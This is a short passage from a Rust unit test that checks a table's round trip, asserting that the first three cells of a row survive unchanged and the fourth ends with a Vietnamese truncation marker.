    assert_eq!(back.rows[0].cells[..3], table.rows[0].cells[..]);
    assert!(back.rows[0].cells[3].ends_with("…(cắt bớt)"));
}
